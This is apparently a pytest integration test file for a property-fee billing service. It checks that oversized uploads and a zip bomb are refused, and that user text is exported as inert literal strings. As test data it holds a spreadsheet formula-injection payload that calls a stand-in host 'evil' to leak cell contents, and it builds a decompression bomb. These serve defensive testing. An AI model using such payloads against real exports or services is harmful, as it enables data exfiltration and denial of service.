"""Hostile files at billing's edges (real PostgreSQL and Kafka): ledger uploads past the
limits are refused before they cost memory; user text in receipts (the company, the community,
the building, the payer's name) is printed literally and
in CSV/XLSX exports cannot run as a formula."""

from __future__ import annotations

import asyncio
import csv
import io
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import asyncpg
import pytest
import pytest_asyncio
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from billing.adapters.export import XLSX_TYPE
from billing.app import create_app
from billing.service_layer import payments
from billing.settings import BillingSettings
from propfee.auth import Role
from propfee.auth.dev import DevIssuer
from propfee.db import create_pool
from propfee.events import PaymentReceived
from tests.support.auth import bearer, staff_token, trust
from tests.support.pdf import HOSTILE, inert_text
from tests.support.pdf_layout import fonts_not_embedded, layout_problems

pytestmark = pytest.mark.integration

C = "c-hostile"
FORMULA_NAME = '=HYPERLINK("http://evil/?"&A1,"x")'
FORMULA_BUILDING = "=1+1栋"
HEADER = (
    "楼栋,单元,房号,房屋类型,建筑面积,房屋状态,交房日期,业主姓名,业主电话,"
    "租户姓名,租户电话,缴费责任人,车位号,车位月租金,期初欠费金额,欠费起始月"
).split(",")
ROW = [FORMULA_BUILDING, "1单元", "101", "住宅", "98.50", "已入住", "2019-06-30", FORMULA_NAME]
ROW += ["13812345678", "", "", "业主", "", "", "1200.00", "2024-11"]
LIMITS = {"max_upload_bytes": 200_000, "max_upload_rows": 50, "max_upload_cell_chars": 100}


def _csv(rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows([HEADER, *rows])
    return out.getvalue().encode()


@pytest_asyncio.fixture
async def billing_db(create_database) -> str:  # type: ignore[no-untyped-def]
    return await create_database("billing_hostile")


@pytest.fixture
def http(
    billing_db: str, kafka: str, test_prefix: str, dev_issuer: DevIssuer
) -> Iterator[TestClient]:
    settings = BillingSettings(
        database_url=billing_db, kafka_bootstrap_servers=kafka, topic_prefix=test_prefix, **LIMITS
    )
    # January 2025's bills on the simulation clock: only the service role acts as of then.
    admin = bearer(staff_token(dev_issuer, [Role.company_admin, Role.service], company_id="co"))
    with TestClient(trust(create_app(settings), dev_issuer), headers=admin) as client:
        for _ in range(100):
            if client.get("/readyz").status_code == 200:
                break
            asyncio.run(asyncio.sleep(0.1))
        r = client.put(
            f"/communities/{C}",
            json={"company_id": "co", "company_name": HOSTILE, "name": HOSTILE, "city": "杭州"},
        )
        assert r.status_code == 200, r.text
        yield client


def _import(http: TestClient, content: Any, filename: str = "l.csv") -> Any:
    return http.post(
        f"/communities/{C}/ledger-imports",
        content=content,
        params={"filename": filename, "opening_as_of": "2025-01-01"},
        headers={"Content-Type": "application/octet-stream"},
    )


def _db(dsn: str, sql: str) -> Any:
    async def go() -> Any:
        conn = await asyncpg.connect(dsn)
        try:
            return await conn.fetchval(sql)
        finally:
            await conn.close()

    return asyncio.run(go())


def test_ledger_uploads_past_the_limits_are_refused_and_import_nothing(
    http: TestClient, billing_db: str
) -> None:
    big = _import(http, b"x" * 200_001)
    assert big.status_code == 413 and "larger than 200000 bytes" in big.json()["detail"]

    def chunks() -> Iterator[bytes]:  # no Content-Length: stopped while streaming
        yield _csv([ROW])
        for _ in range(10_000):
            yield b"x" * 1000

    assert _import(http, chunks()).status_code == 413

    rows = _import(http, _csv([[*ROW[:2], str(n), *ROW[3:]] for n in range(60)]))
    assert rows.status_code == 413
    assert rows.json()["detail"].startswith("row 51: the file has more than 50 rows")

    long_name = [*ROW[:7], "王" * 101, *ROW[8:]]
    cell = _import(http, _csv([ROW, long_name]))
    assert cell.status_code == 422
    assert cell.json()["detail"].startswith("row 3, column 8: the cell holds 101 characters")

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", bytes(50 * 1024 * 1024))
    assert len(buffer.getvalue()) < 200_000
    bomb = _import(http, buffer.getvalue(), "l.xlsx")
    assert bomb.status_code == 413 and "inflates" in bomb.json()["detail"]

    assert _db(billing_db, "SELECT count(*) FROM ledger_imports") == 0
    assert _db(billing_db, "SELECT count(*) FROM units") == 0
    assert _import(http, _csv([ROW])).status_code == 200  # within the limits


def test_user_text_is_printed_literally_and_exported_inert(
    http: TestClient, billing_db: str
) -> None:
    assert _import(http, _csv([ROW])).status_code == 200
    unit_id = _db(billing_db, "SELECT unit_id FROM units")

    contacts = http.get(f"/communities/{C}/contacts", params={"reason": "hostile test"})
    assert contacts.status_code == 200
    owner = next(csv.DictReader(io.StringIO(contacts.content.decode("utf-8-sig"))))
    assert owner["name"] == "'" + FORMULA_NAME

    schedule = {
        "published_on": "2024-11-01",
        "effective_from": "2024-12-01",
        "approval_ref": "杭价〔2024〕7号",
        "pricing_type": "政府指导价",
        "items": [{"code": "property_fee", "name": "物业服务费", "kind": "area",
                   "rate_fen": "250", "unit_type": "residential"}],
    }  # fmt: skip
    history = {"approval_ref": "公司批复〔2024〕1号", "versions": [schedule]}
    assert http.post(f"/communities/{C}/fee-schedules/import", json=history).status_code == 201
    run = {"period_start": "2025-01-01", "as_of": "2025-01-01"}
    assert http.post(f"/communities/{C}/billing-runs", json=run).status_code == 201
    report = {"start": "2025-01-01", "end": "2025-01-31", "as_of": "2025-01-01", "by": "building"}
    xlsx = http.get(f"/communities/{C}/reports/collection", params={**report, "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet is not None
    header, first = list(sheet.iter_rows(values_only=True))[:2]
    line = dict(zip(header, first, strict=True))
    assert line["key"] == "'" + FORMULA_BUILDING  # text, not a formula
    assert isinstance(line["billed_fen"], int) and line["billed_fen"] > 0  # a number
    assert sheet.cell(2, 1).data_type == "s"
    as_csv = http.get(f"/communities/{C}/reports/collection", params={**report, "format": "csv"})
    row = next(csv.DictReader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    assert row["key"] == "'" + FORMULA_BUILDING and row["billed_fen"] == str(line["billed_fen"])

    # The statement as people open it in Excel: dates are date cells, amounts integer fen.
    st = http.get(f"/units/{unit_id}/statement", params={"as_of": "2025-01-01", "format": "xlsx"})
    assert st.status_code == 200 and st.headers["content-type"].startswith(XLSX_TYPE)
    sheet = load_workbook(io.BytesIO(st.content)).active
    assert sheet is not None
    columns = [c.value for c in sheet[1]]
    cells = dict(zip(columns, sheet[2], strict=True))
    assert cells["invoice_id"].data_type == "s"
    assert cells["period_start"].is_date and cells["period_start"].value.day == 1
    assert cells["due_date"].is_date and cells["due_date"].number_format == "yyyy-mm-dd"
    assert cells["total_fen"].data_type == "n" and isinstance(cells["total_fen"].value, int)

    _pay(billing_db, unit_id)
    pdf = http.get("/payments/pay-hostile/receipt.pdf")
    assert pdf.status_code == 200
    assert pdf.headers["content-type"] == "application/pdf"
    assert fonts_not_embedded(pdf.content) == []  # printable anywhere, text selectable
    text = "".join(inert_text(pdf.content).split())  # a long name wraps in its cell
    hostile = "".join(HOSTILE.split())
    assert f"{hostile}收款收据" in text  # the company, as typed
    assert f"房号{hostile}=1+1栋1单元101" in text  # the community and the building
    assert f"付款人{FORMULA_NAME}" in text  # the payer, as typed
    assert layout_problems(pdf.content) == []


def _pay(dsn: str, unit_id: str) -> None:
    async def go() -> None:
        pool = await create_pool(dsn)
        payer = await pool.fetchval(
            "SELECT party_id FROM unit_parties WHERE unit_id = $1 AND role = 'owner'", unit_id
        )
        at = datetime(2025, 1, 20, 3, tzinfo=UTC)
        event = PaymentReceived(
            payment_id="pay-hostile",
            community_id=C,
            unit_id=unit_id,
            payer_party_id=payer,
            amount_fen=50000,
            channel="alipay",
            paid_at=at,
            received_at=at,
        )
        async with pool.acquire() as conn, conn.transaction():
            await payments.record_payment(conn, event, None)  # type: ignore[arg-type]
        await pool.close()

    asyncio.run(go())
